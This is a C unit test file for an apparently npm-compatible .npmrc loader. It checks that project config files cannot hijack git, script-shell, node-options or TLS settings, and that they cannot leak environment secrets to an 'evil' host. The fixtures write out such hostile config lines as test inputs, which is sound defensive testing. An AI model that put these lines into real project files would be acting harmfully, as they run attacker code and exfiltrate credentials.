/* SPDX-License-Identifier: MIT */
#include "world.h"

TEST(a_project_file_may_not_set_what_it_could_misuse)
{
	const struct {
		const char *line, *key;
		str want;
	} rows[] = {
		{ "git=/tmp/evil", "git", S("git") },
		{ "script-shell=/tmp/evil", "script-shell", S("null") },
		{ "node-options=--require=/tmp/evil", "node-options", S("null") },
		{ "cafile=/tmp/evil.pem", "cafile", S("null") },
		{ "strict-ssl=false", "strict-ssl", S("true") },
		{ "strict-ssl=0", "strict-ssl", S("true") },
		{ "trusted-projects[]=*", "trusted-projects", S("") },
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct world w;
		world_open(&w);
		world_write(&w, "project/.npmrc", rows[i].line);
		CHECK_OK(world_load(&w));
		CHECK_STR(world_get(&w, rows[i].key), rows[i].want, "%s", rows[i].line);
		CHECK(str_find(buf_view(&w.log), S("a project may not set it")) != STR_NPOS, "%s",
		      rows[i].line);
		CHECK(str_find(buf_view(&w.log), S("trusted-projects=")) != STR_NPOS,
		      "the way out: %s", rows[i].line);
		world_close(&w);
	}
}

TEST(the_same_keys_are_the_users_to_set)
{
	struct world w;

	world_open(&w);
	world_write(&w, "home/.npmrc", "git=/usr/bin/mygit\nstrict-ssl=false\n");
	CHECK_OK(world_load(&w));
	CHECK_STR(world_get(&w, "git"), S("/usr/bin/mygit"), "git");
	CHECK(!cfg_bool(w.cfg, CFG_STRICT_SSL), "strict-ssl");
	CHECK_STR(buf_view(&w.log), S(""), "log");
	world_close(&w);
}

TEST(a_secret_never_gets_into_an_address_or_to_an_unknown_host)
{
	const char *const lines[] = {
		"registry=http://evil/${SECRET}/",
		"@s:registry=http://evil/${SECRET}/",
		"proxy=http://evil/${SECRET}",
		"https-proxy=http://${SECRET}@evil/",
		"//evil/:_authToken=${SECRET}",
		"//${SECRET}/:_authToken=x",
		"@s:registry=http://evil/\n//evil/:_authToken=${SECRET}",
	};
	for (size_t i = 0; i < ARRAY_LEN(lines); i++) {
		struct world w;
		world_open(&w);
		world_add(w.environ_, "SECRET=canary");
		world_write(&w, "project/.npmrc", lines[i]);
		CHECK_OK(world_load(&w));
		size_t count;
		const struct cfg_entry *e = cfg_layer_entries(&w.arena, w.cfg, CFG_LAYER_PROJECT,
							      &count);
		for (size_t j = 0; j < count; j++)
			CHECK(str_find(e[j].json, S("canary")) == STR_NPOS &&
				      str_find(e[j].key, S("canary")) == STR_NPOS,
			      "%s", lines[i]);
		CHECK(str_find(buf_view(&w.log), S("canary")) == STR_NPOS, "%s", lines[i]);
		CHECK(str_find(buf_view(&w.log), S("environment variables")) != STR_NPOS, "%s",
		      lines[i]);
		world_close(&w);
	}
}

TEST(a_token_goes_to_a_host_that_the_user_named)
{
	struct world w;

	world_open(&w);
	world_add(w.environ_, "TOKEN=t0ken");
	world_write(&w, "home/.npmrc", "registry=http://mine:8080/npm/\n");
	world_write(&w, "project/.npmrc",
		    "//mine:8080/npm/:_authToken=${TOKEN}\n//mine:9090/:_authToken=${TOKEN}\n");
	CHECK_OK(world_load(&w));
	CHECK_STR(cfg_raw(w.cfg, S("//mine:8080/npm/:_authToken")), S("t0ken"), "named");
	CHECK(str_is_null(cfg_raw(w.cfg, S("//mine:9090/:_authToken"))),
	      "another port is another host");
	world_close(&w);
}

TEST(a_trusted_project_may_do_all_of_it)
{
	const char *const where[] = { "*", "/", NULL };

	for (size_t i = 0; where[i]; i++) {
		struct world w;
		world_open(&w);
		world_add(w.environ_, "TOKEN=t0ken");
		world_add(w.environ_,
			  str_cstr(&w.arena, str_printf(&w.arena, "npm_config_trusted_projects=%s",
							where[i])));
		world_write(&w, "project/.npmrc",
			    "git=mygit\nregistry=http://h/${TOKEN}/\n//h/:_authToken=${TOKEN}\n");
		CHECK_OK(world_load(&w));
		CHECK_STR(world_get(&w, "git"), S("mygit"), "git");
		CHECK_STR(cfg_registry_for(w.cfg, S("x")), S("http://h/t0ken/"), "registry");
		CHECK_STR(cfg_raw(w.cfg, S("//h/:_authToken")), S("t0ken"), "token");
		CHECK_STR(buf_view(&w.log), S(""), "log");
		world_close(&w);
	}
}

TEST(other_keys_of_a_project_do_expand)
{
	struct world w;

	world_open(&w);
	world_add(w.environ_, "WHICH=next");
	world_write(&w, "project/.npmrc", "tag=${WHICH}\n");
	CHECK_OK(world_load(&w));
	CHECK_STR(world_get(&w, "tag"), S("next"), "tag");
	world_close(&w);
}

UNIT_TESTS(TESTED(a_project_file_may_not_set_what_it_could_misuse),
	   TESTED(the_same_keys_are_the_users_to_set),
	   TESTED(a_secret_never_gets_into_an_address_or_to_an_unknown_host),
	   TESTED(a_token_goes_to_a_host_that_the_user_named),
	   TESTED(a_trusted_project_may_do_all_of_it), TESTED(other_keys_of_a_project_do_expand))
